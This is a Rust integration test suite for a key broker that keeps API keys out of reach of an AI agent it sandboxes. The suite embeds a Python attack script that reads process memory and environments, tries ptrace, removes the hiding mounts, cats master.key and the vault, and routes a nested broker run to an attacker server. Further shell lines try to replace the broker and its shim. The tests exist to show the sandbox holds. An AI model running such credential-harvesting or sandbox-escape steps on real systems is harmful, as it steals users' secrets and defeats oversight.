//! The injected agent with a shell, as the same user (DESIGN.md section 7): what it can find
//! of the key under `broker run`, sandboxed (the default) and with `--no-sandbox`.
//!
//! The attacker is a Python script run as the agent. It reads everything it can reach
//! (`/proc/*/{environ,cmdline,mem}` of every process it sees, `ptrace` attach, `$BROKER_HOME`,
//! the hiding mounts undone with `umount` and from a user namespace of its own, a nested
//! `broker run` pointed at a server it runs, with and without the run's variables) and dumps
//! all of it to a file; the test then looks for the key, the passphrase and the master key
//! in that dump, in the agent's output, and in what the attacker's server received. The
//! broker and the agent run as an ordinary uid (`setpriv` when the tests run as root):
//! root reads everything.

use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use broker_integration::{
    as_agent_user, contains, give_to_agent_user, run_bounded, shim_lib, Home, Origin, Reply, Serve,
    TestCa,
};

const KEY: &str = "sk-test-sandboxed-openai-key-0123456789abcdef";
const PASSPHRASE: &str = "correct horse battery staple for the sandbox test";

/// The attacker. argv: dump file. Environment: ATTACK_BROKER (the broker binary),
/// ATTACK_EVIL (its server, HOST:PORT), ATTACK_EVIL_CA, ATTACK_PIDS (only these pids;
/// default every pid it can see).
const ATTACK_PY: &str = r#"
import ctypes, glob, os, subprocess, sys
out = open(sys.argv[1], 'wb')
def note(label, data):
    out.write(b'\n== ' + label.encode() + b' ==\n')
    out.write(data if isinstance(data, bytes) else str(data).encode())
    out.flush()
def run(label, argv, env=None):
    try:
        p = subprocess.run(argv, capture_output=True, timeout=60, env=env)
        note(label + ' exit %d' % p.returncode, p.stdout + b'\n--stderr--\n' + p.stderr)
    except Exception as e:
        note(label + ' failed', repr(e))

libc = ctypes.CDLL(None, use_errno=True)
me = os.getpid()
pids = os.environ.get('ATTACK_PIDS')
pids = [int(p) for p in pids.split(',')] if pids else sorted(int(d.split('/')[-1]) for d in glob.glob('/proc/[0-9]*'))
note('pids', pids)
for pid in pids:
    if pid == me:
        continue
    for f in ('environ', 'cmdline'):
        try:
            note('%d %s' % (pid, f), open('/proc/%d/%s' % (pid, f), 'rb').read())
        except Exception as e:
            note('%d %s refused' % (pid, f), repr(e))
    try:
        mem = open('/proc/%d/mem' % pid, 'rb')
        for line in open('/proc/%d/maps' % pid):
            addr, perms = line.split()[:2]
            lo, hi = (int(x, 16) for x in addr.split('-'))
            if 'r' not in perms or hi - lo > (256 << 20):
                continue
            try:
                mem.seek(lo)
                note('%d mem %s' % (pid, addr), mem.read(hi - lo))
            except Exception:
                pass
    except Exception as e:
        note('%d mem refused' % pid, repr(e))
    r = libc.ptrace(16, pid, 0, 0)  # PTRACE_ATTACH
    note('%d ptrace attach' % pid, '%d errno %d' % (r, ctypes.get_errno()))
    if r == 0:
        libc.ptrace(17, pid, 0, 0)  # PTRACE_DETACH

home = os.environ.get('BROKER_HOME', '')
def read_tree(label, root):
    for dirpath, dirs, files in os.walk(root):
        note(label + ' dir ' + dirpath, ' '.join(dirs + files))
        for f in files:
            try:
                note(label + ' file ' + os.path.join(dirpath, f), open(os.path.join(dirpath, f), 'rb').read())
            except Exception as e:
                note(label + ' file refused ' + f, repr(e))
read_tree('home', home)
run('umount', ['umount', '-l', home])
run('userns umount', ['unshare', '-Urm', 'sh', '-c',
    'umount -l "$0" 2>&1; ls -la "$0"; cat "$0"/master.key "$0"/vault.db "$0"/vault.db-wal', home])
read_tree('home after umount', home)

# A nested broker, pointed at the attacker's server, with and without the run's variables.
broker, evil, evil_ca = os.environ['ATTACK_BROKER'], os.environ['ATTACK_EVIL'], os.environ['ATTACK_EVIL_CA']
curl = ['curl', '-sS', '--max-time', '20', 'https://api.openai.com/v1/models',
        '-H', 'Authorization: Bearer ' + os.environ.get('OPENAI_API_KEY', '')]
nested = [broker, 'run', '--embedded', '--upstream-ca', evil_ca, '--resolve', 'api.openai.com:443:' + evil, '--'] + curl
run('nested run with flags', nested)
stripped = {k: v for k, v in os.environ.items() if k not in ('BROKER_SHIM_CONFIG', 'LD_PRELOAD', 'BROKER_SHIM_ACTIVE')}
run('nested run without the run variables', nested, env=stripped)
env = dict(stripped, BROKER_RESOLVE='api.openai.com:443:' + evil, BROKER_UPSTREAM_CA=evil_ca, SSL_CERT_FILE=evil_ca, SSL_CERT_DIR=os.path.dirname(evil_ca))
run('nested run with variables', [broker, 'run', '--embedded', '--'] + curl, env=env)
run('nested serve with variables', [broker, 'list'], env=env)

# The agent's ordinary work still works: the placeholder goes out, the answer comes back.
run('legit request', curl)
note('done', 'ok')
"#;

#[derive(Clone, Copy, Debug)]
enum KeySource {
    File,
    Passphrase,
}

#[derive(Clone, Copy, Debug)]
enum Mode {
    Embedded,
    Joined,
}

/// One attacked run: the stores, the servers, the dump.
struct Scene {
    home: Home,
    project: tempfile::TempDir,
    _ca: TestCa,
    origin: Origin,
    evil: Origin,
    source: KeySource,
}

impl Scene {
    fn new(source: KeySource) -> Scene {
        let _ = shim_lib();
        let ca = TestCa::new();
        let origin = Origin::bearer(&ca, "api.openai.com", KEY, "{\"data\":[\"legit\"]}");
        let evil_ca = TestCa::new();
        let evil = Origin::start(&evil_ca, &["api.openai.com"], |_| {
            Reply::Text(200, "attacker's server".into())
        });
        let home = Home::new();
        let project = tempfile::tempdir().expect("project dir");
        std::fs::write(project.path().join("attack.py"), ATTACK_PY).expect("script");
        std::fs::copy(&ca.pem_path, project.path().join("upstream-ca.pem")).expect("ca");
        std::fs::copy(&evil_ca.pem_path, project.path().join("evil-ca.pem")).expect("ca");
        give_to_agent_user(home.path());
        give_to_agent_user(project.path());
        let scene = Scene {
            home,
            project,
            _ca: ca,
            origin,
            evil,
            source,
        };
        add_as_agent_user(scene.broker());
        scene
    }

    /// `broker` for this home and key source (not yet as the agent's user).
    fn broker(&self) -> Command {
        let mut cmd = self.home.broker();
        match self.source {
            KeySource::File => cmd.env("BROKER_KEY_SOURCE", "file"),
            KeySource::Passphrase => cmd
                .env("BROKER_KEY_SOURCE", "passphrase")
                .env("BROKER_PASSPHRASE", PASSPHRASE),
        };
        cmd.current_dir(self.project.path());
        cmd
    }

    fn upstream_args(&self) -> Vec<String> {
        vec![
            "--upstream-ca".into(),
            self.project
                .path()
                .join("upstream-ca.pem")
                .display()
                .to_string(),
            "--resolve".into(),
            format!("api.openai.com:443:{}", self.origin.addr),
        ]
    }

    /// `broker serve` for this home, as the agent's user.
    fn serve(&self) -> Serve {
        let mut cmd = self.broker();
        cmd.arg("serve").args(self.upstream_args());
        Serve::spawn(&self.home, as_agent_user(&cmd))
    }

    /// `broker run [run_args] -- python3 attack.py dump` as the agent's user; the dump.
    fn attack(&self, run_args: &[&str], attack_env: &[(&str, String)]) -> (Vec<u8>, Vec<u8>) {
        let dump = self.project.path().join("dump");
        let mut cmd = self.broker();
        cmd.arg("run").args(run_args).arg("--").args([
            "python3",
            "attack.py",
            &dump.display().to_string(),
        ]);
        cmd.env(
            "ATTACK_BROKER",
            broker_integration::broker_bin_for_agent_user(),
        )
        .env("ATTACK_EVIL", self.evil.addr.to_string())
        .env("ATTACK_EVIL_CA", self.project.path().join("evil-ca.pem"));
        for (var, value) in attack_env {
            cmd.env(var, value);
        }
        let out = run_bounded(
            as_agent_user(&cmd).stdin(Stdio::null()),
            Duration::from_secs(180),
        );
        let mut output = out.stdout.clone();
        output.extend_from_slice(&out.stderr);
        assert!(
            out.status.success(),
            "the attacker's run failed: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        let dump = std::fs::read(&dump).expect("the attacker's dump");
        assert!(contains(&dump, "== done =="), "the attacker did not finish");
        (dump, output)
    }

    /// Nothing of a secret in `haystack`: the key, the passphrase, the master key file.
    fn assert_nothing_secret(&self, haystack: &[u8], what: &str) {
        assert!(!contains(haystack, KEY), "the key is in {what}");
        assert!(
            !contains(haystack, PASSPHRASE),
            "the passphrase is in {what}"
        );
        if let Ok(master) = std::fs::read(self.home.path().join("master.key")) {
            assert!(
                !haystack
                    .windows(master.len())
                    .any(|w| w == master.as_slice()),
                "the master key file is in {what}"
            );
        }
    }

    /// The attacker's server never saw the key; the real origin did (the run worked).
    fn assert_key_went_only_to_its_origin(&self) {
        for req in self.evil.requests() {
            for (name, value) in &req.headers {
                assert!(
                    !value.contains(KEY),
                    "the attacker's server got the key in {name}"
                );
            }
        }
        let legit = self.origin.requests();
        assert!(
            legit
                .iter()
                .any(|r| r.header("authorization") == Some(format!("Bearer {KEY}").as_str())),
            "the agent's ordinary request did not reach the origin with the key"
        );
    }
}

/// `broker add openai` with the key on stdin, as the agent's user.
fn add_as_agent_user(mut broker: Command) {
    broker.args(["add", "openai"]);
    let mut child = as_agent_user(&broker)
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .expect("broker add");
    use std::io::Write as _;
    child
        .stdin
        .take()
        .expect("stdin")
        .write_all(KEY.as_bytes())
        .expect("write key");
    let out = child.wait_with_output().expect("add");
    assert!(
        out.status.success(),
        "broker add: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

fn attack_sandboxed(mode: Mode, source: KeySource) {
    let scene = Scene::new(source);
    let _serve;
    let upstream = scene.upstream_args();
    let mut run_args: Vec<&str> = Vec::new();
    match mode {
        Mode::Embedded => {
            run_args.push("--embedded");
            run_args.extend(upstream.iter().map(String::as_str));
        }
        Mode::Joined => _serve = scene.serve(),
    }
    let (dump, output) = scene.attack(&run_args, &[]);
    scene.assert_nothing_secret(&dump, "what the agent read");
    scene.assert_nothing_secret(&output, "the run's output");
    scene.assert_key_went_only_to_its_origin();
    // What the sandbox showed: no vault, no key file, no broker process.
    assert!(
        !contains(&dump, "vault.db ") && !contains(&dump, "master.key "),
        "the home was visible"
    );
    assert!(
        contains(&dump, "legit"),
        "the agent's request did not get its answer"
    );
    assert!(
        contains(
            &dump,
            "not taken from a process started inside a broker run"
        ) || contains(&dump, "already inside a broker run"),
        "the nested broker was not refused"
    );
    assert!(
        scene.evil.requests().is_empty(),
        "the attacker's server was reached"
    );
}

#[test]
fn an_agent_with_a_shell_gets_nothing_in_a_sandboxed_embedded_run_with_a_key_file() {
    attack_sandboxed(Mode::Embedded, KeySource::File);
}

#[test]
fn an_agent_with_a_shell_gets_nothing_in_a_sandboxed_embedded_run_with_a_passphrase() {
    attack_sandboxed(Mode::Embedded, KeySource::Passphrase);
}

#[test]
fn an_agent_with_a_shell_gets_nothing_in_a_sandboxed_run_joined_to_serve_with_a_key_file() {
    attack_sandboxed(Mode::Joined, KeySource::File);
}

#[test]
fn an_agent_with_a_shell_gets_nothing_in_a_sandboxed_run_joined_to_serve_with_a_passphrase() {
    attack_sandboxed(Mode::Joined, KeySource::Passphrase);
}

/// `--no-sandbox`: the broker's process is still closed (non-dumpable, its passphrase and the
/// `.env` key it was handed overwritten in its environment block), a nested broker with
/// overrides is refused, but the key file next to the vault is there for the taking: the
/// weakness the README's threat model states.
#[test]
fn without_the_sandbox_the_broker_stays_closed_but_the_key_file_is_readable() {
    let scene = Scene::new(KeySource::File);
    let pid_file = scene.project.path().join("broker.pid");
    let go = scene.project.path().join("go");
    let dump = scene.project.path().join("dump");
    let mut cmd = scene.broker();
    cmd.env("OPENAI_API_KEY", KEY)
        .env("BROKER_PASSPHRASE", PASSPHRASE)
        .arg("run")
        .arg("--no-sandbox")
        .arg("--embedded")
        .args(scene.upstream_args())
        .arg("--")
        .args(["sh", "-c"])
        .arg(format!(
            "echo $PPID > {pid}; while [ ! -e {go} ]; do sleep 0.05; done; ATTACK_PIDS=$PPID exec python3 attack.py {dump}",
            pid = pid_file.display(),
            go = go.display(),
            dump = dump.display()
        ));
    cmd.env(
        "ATTACK_BROKER",
        broker_integration::broker_bin_for_agent_user(),
    )
    .env("ATTACK_EVIL", scene.evil.addr.to_string())
    .env("ATTACK_EVIL_CA", scene.project.path().join("evil-ca.pem"));
    let child = as_agent_user(&cmd)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("broker run");
    // Whatever happens below, the agent is let go (it would wait for this file forever).
    struct LetGo(std::path::PathBuf);
    impl Drop for LetGo {
        fn drop(&mut self) {
            let _ = std::fs::write(&self.0, "");
        }
    }
    let _let_go = LetGo(go.clone());
    let deadline = Instant::now() + Duration::from_secs(30);
    let broker_pid: u32 = loop {
        if let Some(pid) = std::fs::read_to_string(&pid_file)
            .ok()
            .and_then(|s| s.trim().parse().ok())
        {
            break pid;
        }
        assert!(Instant::now() < deadline, "the agent did not start");
        std::thread::sleep(Duration::from_millis(20));
    };
    // What /proc/<pid>/environ holds (read here with the test's own rights: as root, past
    // the non-dumpable flag): neither the passphrase nor the handed-over key.
    if let Ok(environ) = std::fs::read(format!("/proc/{broker_pid}/environ")) {
        assert!(
            !contains(&environ, PASSPHRASE),
            "the passphrase is in the broker's environ"
        );
        assert!(
            !contains(&environ, KEY),
            "the handed key is in the broker's environ"
        );
        assert!(contains(&environ, "BROKER_HOME="), "read the wrong process");
    }
    std::fs::write(&go, "").expect("go");
    let out = child.wait_with_output().expect("run");
    assert!(
        out.status.success(),
        "run: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let dump = std::fs::read(&dump).expect("dump");
    assert!(
        contains(&dump, &format!("{broker_pid} environ refused")),
        "environ was readable"
    );
    assert!(
        contains(&dump, &format!("{broker_pid} mem refused")),
        "memory was readable"
    );
    assert!(
        !contains(&dump, &format!("{broker_pid} ptrace attach\n0 ")),
        "ptrace attach worked"
    );
    assert!(
        !contains(&dump, KEY) && !contains(&dump, PASSPHRASE),
        "a secret leaked"
    );
    assert!(
        contains(
            &dump,
            "not taken from a process started inside a broker run"
        ) || contains(&dump, "already inside a broker run"),
        "the nested broker was not refused"
    );
    assert!(
        scene.evil.requests().is_empty(),
        "the attacker's server was reached"
    );
    // ...but the home is open: the attacker read the key file.
    let master = std::fs::read(scene.home.path().join("master.key")).expect("key file");
    assert!(
        dump.windows(master.len()).any(|w| w == master.as_slice()),
        "expected the key file to be readable without the sandbox"
    );
}

/// The agent's ordinary work inside the sandbox: its files, git, python, node, a program
/// under a pty, its uid and gid, its exit status; the sandbox's mounts are locked.
#[test]
fn the_agents_ordinary_work_is_unchanged_in_the_sandbox() {
    let _ = shim_lib();
    let home = Home::new();
    let project = tempfile::tempdir().expect("project");
    give_to_agent_user(home.path());
    give_to_agent_user(project.path());
    let script = r#"
set -e
id -u; id -g
echo hello > notes.txt && cat notes.txt
git init -q repo && cd repo && git config user.email a@b && git config user.name a
echo x > f && git add f && git commit -qm one && git log --oneline | wc -l && cd ..
python3 -c 'print("py", 6*7)'
if command -v node >/dev/null; then node -e 'console.log("node", 6*7)'; else echo "node 42"; fi
script -qec 'tty' /dev/null | grep -q /dev/pts && echo pty ok
ls /proc | grep -c '^[0-9]' > procs
ls -A "$BROKER_HOME/vault.db" 2>/dev/null && echo VAULT VISIBLE || echo vault hidden
touch "$BROKER_HOME/planted" 2>/dev/null && echo PLANTED || echo home read-only
exit 3
"#;
    let mut cmd = home.broker();
    cmd.current_dir(project.path())
        .args(["run", "--", "sh", "-c", script]);
    // A vault exists (so there is something to hide).
    add_as_agent_user(home.broker());
    let out = run_bounded(
        as_agent_user(&cmd).stdin(Stdio::null()),
        Duration::from_secs(60),
    );
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(3), "exit status; stderr: {stderr}");
    let expected_uid = if broker_integration::is_root() {
        broker_integration::AGENT_UID
    } else {
        rustix::process::getuid().as_raw()
    };
    let lines: Vec<&str> = stdout.lines().collect();
    assert_eq!(
        lines.first().copied(),
        Some(expected_uid.to_string().as_str()),
        "{stdout}{stderr}"
    );
    for want in [
        "hello",
        "py 42",
        "node 42",
        "pty ok",
        "vault hidden",
        "home read-only",
    ] {
        assert!(
            stdout.contains(want),
            "missing '{want}' in: {stdout}{stderr}"
        );
    }
    assert!(
        stdout.lines().any(|l| l.trim() == "1"),
        "git commit: {stdout}"
    );
    assert_eq!(
        std::fs::read_to_string(project.path().join("notes.txt"))
            .expect("file")
            .trim(),
        "hello",
        "the agent's files land in the real project directory"
    );
    // Only the agent's own tree is in its /proc: init, sh, and the few it ran.
    let procs: usize = std::fs::read_to_string(project.path().join("procs"))
        .expect("procs")
        .trim()
        .parse()
        .expect("count");
    assert!(procs < 8, "the sandbox's /proc shows {procs} processes");
    assert!(!home.path().join("planted").exists());
}

/// A `broker run` inside a run joins it: the inner agent gets the swap through the outer
/// run's broker, and the message says so.
#[test]
fn a_nested_broker_run_joins_the_enclosing_run() {
    let scene = Scene::new(KeySource::File);
    let mut cmd = scene.broker();
    cmd.arg("run")
        .arg("--embedded")
        .args(scene.upstream_args())
        .arg("--");
    cmd.arg(broker_integration::broker_bin_for_agent_user())
        .args([
        "run",
        "--",
        "sh",
        "-c",
        "curl -sS https://api.openai.com/v1/models -H \"Authorization: Bearer $OPENAI_API_KEY\"",
    ]);
    let out = run_bounded(
        as_agent_user(&cmd).stdin(Stdio::null()),
        Duration::from_secs(60),
    );
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert!(
        contains(&out.stdout, "legit"),
        "stdout: {}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert!(stderr.contains("already inside a broker run"), "{stderr}");
    assert!(!contains(&out.stdout, KEY) && !contains(&out.stderr, KEY));
    scene.assert_key_went_only_to_its_origin();
}

/// A sandbox that cannot be made for a reason an agent could have caused (here: no user
/// namespace left to create, as if an earlier agent had used them all up) stops the run
/// instead of starting the agent without it; `--no-sandbox` is the explicit way out.
#[test]
fn a_sandbox_that_cannot_be_made_stops_the_run() {
    let home = Home::new();
    let scratch = tempfile::tempdir().expect("tempdir");
    let marker = scratch.path().join("agent-ran");
    let run = |extra: &[&str]| {
        let broker = home.broker();
        let mut cmd = Command::new("unshare");
        cmd.args([
            "-Ur",
            "sh",
            "-c",
            "echo 0 > /proc/sys/user/max_user_namespaces && exec \"$@\"",
            "sh",
        ]);
        cmd.arg(broker.get_program())
            .arg("run")
            .args(extra)
            .arg("--");
        cmd.arg("touch").arg(&marker);
        for (var, value) in broker.get_envs() {
            match value {
                Some(value) => cmd.env(var, value),
                None => cmd.env_remove(var),
            };
        }
        run_bounded(cmd.stdin(Stdio::null()), Duration::from_secs(30))
    };
    let out = run(&[]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(
        stderr.contains("cannot start the agent's sandbox"),
        "{stderr}"
    );
    assert!(stderr.contains("--no-sandbox"), "{stderr}");
    assert!(!marker.exists(), "the agent ran without its sandbox");
    let out = run(&["--no-sandbox"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(marker.exists());
}

/// An interactive agent in a real terminal (tmux): it owns the terminal inside the sandbox
/// (size, line input), and Ctrl-C reaches it and ends the run with its status, as without
/// broker.
#[test]
fn an_interactive_agent_keeps_its_terminal_and_ctrl_c() {
    if Command::new("tmux").arg("-V").output().is_err() {
        broker_integration::skip("tmux is not installed (apt-get install tmux)");
        return;
    }
    let home = Home::new();
    let scratch = tempfile::tempdir().expect("tempdir");
    let socket = scratch.path().join("tmux.sock");
    let status_file = scratch.path().join("status");
    let broker = home.broker();
    let env: Vec<String> = broker
        .get_envs()
        .filter_map(|(k, v)| Some(format!("{}={}", k.to_str()?, v?.to_str()?)))
        .collect();
    // Typed at an interactive shell with job control, as a user would.
    let script = format!(
        "env {env} {bin} run -- sh -c 'stty size; printf \"%s? \" name; read line; echo \"got:$line\"; exec sleep 60'; echo \"exit:$?\" > {status}",
        env = env.join(" "),
        bin = broker.get_program().to_string_lossy(),
        status = status_file.display()
    );
    let tmux = |args: &[&str]| {
        Command::new("tmux")
            .arg("-S")
            .arg(&socket)
            .args(args)
            .output()
            .expect("tmux")
    };
    // The tmux server (and the run in it) goes away even when an assertion fails.
    struct KillServer(std::path::PathBuf);
    impl Drop for KillServer {
        fn drop(&mut self) {
            let _ = Command::new("tmux")
                .arg("-S")
                .arg(&self.0)
                .arg("kill-server")
                .output();
        }
    }
    let _kill_server = KillServer(socket.clone());
    let started = tmux(&[
        "new-session",
        "-d",
        "-x",
        "100",
        "-y",
        "30",
        "bash",
        "--norc",
        "--noprofile",
        "-i",
    ]);
    assert!(
        started.status.success(),
        "{}",
        String::from_utf8_lossy(&started.stderr)
    );
    tmux(&["send-keys", &script, "Enter"]);
    let screen = || String::from_utf8_lossy(&tmux(&["capture-pane", "-p"]).stdout).to_string();
    let wait_for = |what: &str| {
        let deadline = Instant::now() + Duration::from_secs(30);
        loop {
            let text = screen();
            if text.contains(what) {
                return text;
            }
            assert!(Instant::now() < deadline, "waited for '{what}': {text}");
            std::thread::sleep(Duration::from_millis(50));
        }
    };
    let text = wait_for("name?");
    assert!(
        text.contains("30 100"),
        "the agent does not see its terminal's size: {text}"
    );
    tmux(&["send-keys", "hello", "Enter"]);
    wait_for("got:hello");
    tmux(&["send-keys", "C-c"]);
    let deadline = Instant::now() + Duration::from_secs(20);
    let status = loop {
        if let Ok(status) = std::fs::read_to_string(&status_file) {
            break status;
        }
        assert!(
            Instant::now() < deadline,
            "Ctrl-C did not end the run: {}",
            screen()
        );
        std::thread::sleep(Duration::from_millis(50));
    };
    tmux(&["kill-server"]);
    assert_eq!(status.trim(), "exit:130", "the run's status after Ctrl-C");
}

/// The agent cannot plant a broker or a shim for the user's next run: inside the sandbox both
/// files are read-only in place, even where the user could replace them; without the sandbox
/// it can (which shows the check bites).
#[test]
fn the_agent_cannot_replace_the_broker_or_the_shim() {
    let _ = shim_lib();
    let home = Home::new();
    let project = tempfile::tempdir().expect("project");
    let bin = project.path().join("bin");
    std::fs::create_dir(&bin).expect("bin");
    std::fs::copy(broker_integration::broker_bin(), bin.join("broker")).expect("copy broker");
    std::fs::copy(shim_lib(), bin.join("libbroker.so")).expect("copy shim");
    give_to_agent_user(home.path());
    give_to_agent_user(project.path());
    let original = std::fs::read(bin.join("libbroker.so")).expect("shim");
    let plant = "cp /bin/true bin/broker.new && mv -f bin/broker.new bin/broker 2>/dev/null && echo BROKER-REPLACED || echo broker-kept; \
                 (echo planted > bin/libbroker.so) 2>/dev/null && echo SHIM-REPLACED || echo shim-kept";
    let run = |extra: &[&str]| {
        let mut cmd = home.broker();
        cmd.current_dir(project.path());
        let cmd = as_agent_user(&cmd);
        // The copy the agent's user owns, not the build's.
        let mut planted = Command::new(if broker_integration::is_root() {
            "setpriv"
        } else {
            "sh"
        });
        if broker_integration::is_root() {
            planted.args(cmd.get_args().take_while(|a| *a != "--"));
            planted.arg("--");
        } else {
            planted.arg("-c").arg("exec \"$@\"").arg("sh");
        }
        planted
            .arg(bin.join("broker"))
            .arg("run")
            .args(extra)
            .args(["--", "sh", "-c", plant]);
        for (var, value) in cmd.get_envs() {
            match value {
                Some(value) => planted.env(var, value),
                None => planted.env_remove(var),
            };
        }
        planted.current_dir(project.path());
        let out = run_bounded(planted.stdin(Stdio::null()), Duration::from_secs(60));
        String::from_utf8_lossy(&out.stdout).to_string() + &String::from_utf8_lossy(&out.stderr)
    };
    let sandboxed = run(&[]);
    assert!(
        sandboxed.contains("broker-kept") && sandboxed.contains("shim-kept"),
        "{sandboxed}"
    );
    assert_eq!(
        std::fs::read(bin.join("libbroker.so")).expect("shim"),
        original
    );
    let open = run(&["--no-sandbox"]);
    assert!(
        open.contains("BROKER-REPLACED") && open.contains("SHIM-REPLACED"),
        "{open}"
    );
}
